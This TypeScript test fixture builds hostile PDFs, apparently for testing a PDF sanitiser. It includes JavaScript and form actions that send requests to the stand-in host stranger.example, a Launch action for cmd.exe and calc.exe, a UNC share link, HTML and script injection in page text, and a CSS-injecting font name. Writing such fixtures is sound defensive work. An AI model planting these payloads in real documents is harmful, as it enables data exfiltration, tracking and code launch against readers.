import { pdfOf, stream, textPdf } from './made-pdfs.ts';

const stranger = 'http://stranger.example';
const words = [['Ayşe Yılmaz']];
const javaScript = `<< /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\("${stranger}/js"\\); this.submitForm\\("${stranger}/form"\\);) >>`;
const everywhere = '/Rect [0 0 595 842]';

function annotated(annotation: string, catalogue = ''): Buffer {
  return textPdf({ pages: words, page: '/Annots [4 0 R]', catalogue, more: [annotation] });
}

/** PDFs that would run something or send a request, each with a page of text. */
export const hostilePdfs: Readonly<Record<string, Buffer>> = {
  'JavaScript run on opening': textPdf({
    pages: words,
    catalogue: `/OpenAction ${javaScript} /Names << /JavaScript << /Names [(a) ${javaScript}] >> >>`,
    page: `/AA << /O ${javaScript} >>`,
  }),
  'a program started on opening': textPdf({
    pages: words,
    catalogue: '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  }),
  'an address opened on opening': textPdf({
    pages: words,
    catalogue: `/OpenAction << /S /URI /URI (${stranger}/uri) >>`,
  }),
  'a link over the whole page': annotated(
    `<< /Type /Annot /Subtype /Link ${everywhere} /A << /S /URI /URI (${stranger}/link) >> >>`,
  ),
  'a link that is JavaScript': annotated(
    `<< /Type /Annot /Subtype /Link ${everywhere} /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>`,
  ),
  'a link to another file': annotated(
    `<< /Type /Annot /Subtype /Link ${everywhere} /A << /S /GoToR /F (\\\\\\\\stranger.example\\\\share\\\\cv.pdf) /D [0 /Fit] >> >>`,
  ),
  'a form that is sent by a click': annotated(
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) ${everywhere} /A << /S /SubmitForm /F (${stranger}/form) >> /AA << /E ${javaScript} >> >>`,
    '/AcroForm << /Fields [4 0 R] /NeedAppearances true >>',
  ),
  'an XFA form with an image': textPdf({
    pages: words,
    catalogue: '/AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true',
    more: [
      stream(
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><pageSet><pageArea><contentArea/></pageArea></pageSet><draw><value><image href="${stranger}/xfa.png"/></value></draw></subform></template></xdp:xdp>`,
      ),
    ],
  }),
  'a video from elsewhere': annotated(
    `<< /Type /Annot /Subtype /Screen ${everywhere} /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${stranger}/video.mp4) >> >> >> >> >>`,
  ),
  'a page whose text is markup': textPdf({
    pages: [[`<img src="${stranger}/x" onerror="alert(1)"><script>alert(1)</script>`]],
  }),
  'a font whose name is a style': textPdf({
    pages: words,
    font: '<< /Type /Font /Subtype /TrueType /BaseFont /a#22#3burl#28http:#2f#2fstranger.example#2ffont#29 >>',
  }),
  'an image kept elsewhere': pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
    stream('q 500 0 0 500 40 40 cm /I Do Q 10 10 40 40 re f'),
    stream(
      '',
      `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (${stranger}/image.png) >> /FFilter /DCTDecode`,
    ),
  ]),
};
